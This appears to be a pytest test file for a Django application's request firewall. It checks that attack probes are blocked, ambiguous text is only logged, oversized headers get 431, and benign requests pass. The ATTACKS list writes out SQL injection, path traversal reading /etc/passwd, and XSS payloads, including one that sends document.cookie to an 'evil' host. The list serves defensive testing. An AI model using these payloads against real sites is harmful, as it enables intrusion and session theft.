"""The request firewall: attack probes are recognised (and blocked only on high confidence), header limits answer
431, and a corpus of benign requests passes exactly as it would without the firewall."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django.core.cache import cache
from django.test import Client, override_settings
from prometheus_client import REGISTRY

from azora.security import firewall
from azora.security.models import SecurityEvent
from azora.security.public import rate_limits_reset

CORPUS = Path(__file__).with_name("benign_requests.jsonl")


@pytest.fixture(autouse=True)
def _empty_cache() -> None:
    """Event dedupe windows and counters live in the cache; each test starts without them."""
    cache.clear()


def corpus() -> list[dict[str, Any]]:
    return [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines() if line.strip()]


def query(values: dict[str, str]) -> str:
    return urlencode(values)


# --- pure recognition ----------------------------------------------------------------------------------------

ATTACKS = [
    ("sqli", "query", "id=1' OR '1'='1"),
    ("sqli", "query", "id=1%27%20or%201%3D1--"),
    ("sqli", "query", "q=x' UNION SELECT username, password FROM users--"),
    ("sqli", "query", "q=1 union all select null,null,null"),
    ("sqli", "query", "q=1;DROP TABLE users"),
    ("sqli", "query", "q=1' AND SLEEP(5)--"),
    ("sqli", "query", "q=1' waitfor delay '0:0:5'--"),
    ("sqli", "query", "q=1 AND 1=(SELECT 1 FROM information_schema.tables)"),
    ("sqli", "query", "q=1'/**/or/**/'a'='a"),
    ("sqli", "query", "q=%2527%2520or%2520%25271%2527%253D%25271"),  # double-encoded
    ("xss", "query", "q=<script>alert(1)</script>"),
    ("xss", "query", "q=%3Cscript%3Edocument.location='http://evil/'+document.cookie%3C/script%3E"),
    ("xss", "query", "q=<img src=x onerror=alert(1)>"),
    ("xss", "query", "q=<svg/onload=alert(1)>"),
    ("xss", "query", "next=javascript:alert(document.domain)"),
    ("xss", "query", "q=<script src=//evil.example/x.js></script>"),
    ("path_traversal", "query", "file=../../../../etc/passwd"),
    ("path_traversal", "query", "file=..%2F..%2F..%2Fwindows%2Fwin.ini"),
    ("path_traversal", "query", "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("path_traversal", "query", "file=..%c0%af..%c0%afetc"),
    ("path_traversal", "query", "file=report.pdf%00.png"),
]


@pytest.mark.parametrize(("attack", "place", "text"), ATTACKS)
def test_attack_probes_are_recognised_with_high_confidence(attack: str, place: str, text: str) -> None:
    findings = firewall.inspect(path="/search", query=text)

    assert any(f.attack == attack and f.confidence == "high" for f in findings), findings
    assert firewall.is_blocking(findings)


@pytest.mark.parametrize("path", ["/static/../../etc/passwd", "/api/v1/../admin/", "/files/..\\..\\boot.ini"])
def test_dot_segments_in_a_path_are_traversal(path: str) -> None:
    findings = firewall.inspect(path=path, query="")

    assert {(f.attack, f.confidence, f.place) for f in findings} >= {("path_traversal", "high", "path")}


@pytest.mark.parametrize(
    ("text", "attack"),
    [("q=how to use <script> tag", "xss"), ("q=how does or 1=1 work", "sqli"), ("q=../ in shell", "path_traversal")],
)
def test_ambiguous_text_is_only_logged(text: str, attack: str) -> None:
    findings = firewall.inspect(path="/search", query=text)

    assert [(f.attack, f.confidence) for f in findings] == [(attack, "low")]
    assert not firewall.is_blocking(findings)


def test_probes_in_a_form_body_are_logged_but_never_block() -> None:
    findings = firewall.inspect(path="/lessons/1/edit", query="", body="content=<script>alert(1)</script>")

    assert [(f.attack, f.confidence, f.place) for f in findings] == [("xss", "high", "body")]
    assert not firewall.is_blocking(findings)


def test_header_limits_count_headers_and_their_bytes() -> None:
    meta = {"HTTP_HOST": "a", "HTTP_X_LONG": "x" * 100, "CONTENT_TYPE": "text/plain", "REMOTE_ADDR": "1.2.3.4"}

    verdict = firewall.header_verdict(meta, max_headers=3, max_bytes=200)
    tight = firewall.header_verdict(meta, max_headers=2, max_bytes=100)

    assert (verdict.count, verdict.exceeded) == (3, False)
    assert verdict.size == len("HTTP_HOST") + 1 + len("HTTP_X_LONG") + 100 + len("CONTENT_TYPE") + len("text/plain")
    assert (tight.too_many, tight.too_large) == (True, True)


def test_the_corpus_is_big_and_varied_enough() -> None:
    entries = corpus()

    assert len(entries) >= 100
    assert {entry["method"] for entry in entries} == {"GET", "POST"}


@pytest.mark.parametrize("entry", corpus(), ids=lambda entry: json.dumps(entry, ensure_ascii=False)[:60])
def test_no_benign_request_is_recognised_as_an_attack(entry: dict[str, Any]) -> None:
    body = urlencode(entry.get("form", {}))

    findings = firewall.inspect(path=entry["path"], query=query(entry["query"]), body=body)

    if entry.get("logged"):
        assert [f.confidence for f in findings] == ["low"]
    else:
        assert findings == []


# --- through the middleware ----------------------------------------------------------------------------------


def send(client: Client, entry: dict[str, Any]) -> Any:
    path = entry["path"] + (f"?{query(entry['query'])}" if entry["query"] else "")
    if entry["method"] == "POST":
        return client.post(path, entry.get("form", {}))
    return client.get(path)


@pytest.mark.django_db
def test_benign_requests_get_the_same_answer_with_and_without_the_edge() -> None:
    events_before = SecurityEvent.objects.filter(kind="firewall_probe").count()
    with_edge = [send(Client(), entry).status_code for entry in corpus()]
    rate_limits_reset()  # the sign-in form posts count against the login rate limit
    with override_settings(AZORA_SECURITY_EDGE_ENABLED=False):
        without_edge = [send(Client(), entry).status_code for entry in corpus()]

    assert with_edge == without_edge
    assert 403 not in with_edge
    logged = sum(1 for entry in corpus() if entry.get("logged"))
    assert SecurityEvent.objects.filter(kind="firewall_probe").count() - events_before == logged


def probes_counted(attack: str, blocked: str) -> float:
    return REGISTRY.get_sample_value("azora_firewall_probes_total", {"attack": attack, "blocked": blocked}) or 0.0


@pytest.mark.django_db
def test_a_high_confidence_probe_is_refused_and_recorded() -> None:
    before = probes_counted("sqli", "true")

    response = Client().get("/livez?id=1%27%20OR%20%271%27%3D%271", REMOTE_ADDR="198.51.100.7")

    assert response.status_code == 403
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["code"] == "request_rejected"
    event = SecurityEvent.objects.get(kind="firewall_probe")
    assert (event.ip, event.severity, event.path) == ("198.51.100.7", "high", "/livez")
    assert event.detail["blocked"] is True
    assert event.detail["findings"] == [
        {"attack": "sqli", "pattern": "quote_tautology", "confidence": "high", "place": "query"}
    ]
    assert "1'" not in json.dumps(event.detail)  # the probe text itself is never stored
    assert probes_counted("sqli", "true") == before + 1


@pytest.mark.django_db
def test_a_browser_gets_an_html_page() -> None:
    response = Client().get("/courses/?q=<script>alert(1)</script>", HTTP_ACCEPT="text/html")

    assert response.status_code == 403
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert b"<h1>This request was refused.</h1>" in response.content


@pytest.mark.django_db
@override_settings(AZORA_FIREWALL_BLOCK=False)
def test_with_blocking_off_probes_are_only_logged() -> None:
    response = Client().get("/livez?id=1%27%20OR%20%271%27%3D%271")

    assert response.status_code == 200
    assert SecurityEvent.objects.get(kind="firewall_probe").detail["blocked"] is False


@pytest.mark.django_db
def test_a_scan_records_one_event_per_address_and_minute() -> None:
    client = Client()
    for attempt in range(5):
        assert (
            client.get(f"/livez?id={attempt}%27%20OR%20%271%27%3D%271", REMOTE_ADDR="198.51.100.8").status_code == 403
        )

    assert SecurityEvent.objects.filter(kind="firewall_probe", ip="198.51.100.8").count() == 1


@pytest.mark.django_db
@override_settings(AZORA_FIREWALL_MAX_HEADERS=5)
def test_too_many_headers_are_answered_431() -> None:
    headers = {f"X-Filler-{i}": "1" for i in range(6)}

    response = Client().get("/livez", headers=headers)

    assert response.status_code == 431
    assert response.json()["code"] == "request_headers_too_large"


@pytest.mark.django_db
@override_settings(AZORA_FIREWALL_MAX_HEADER_BYTES=200)
def test_an_oversized_header_block_is_answered_431() -> None:
    response = Client().get("/livez", HTTP_COOKIE="a=" + "x" * 300)

    assert response.status_code == 431
    assert response.json()["header_bytes"] > 300
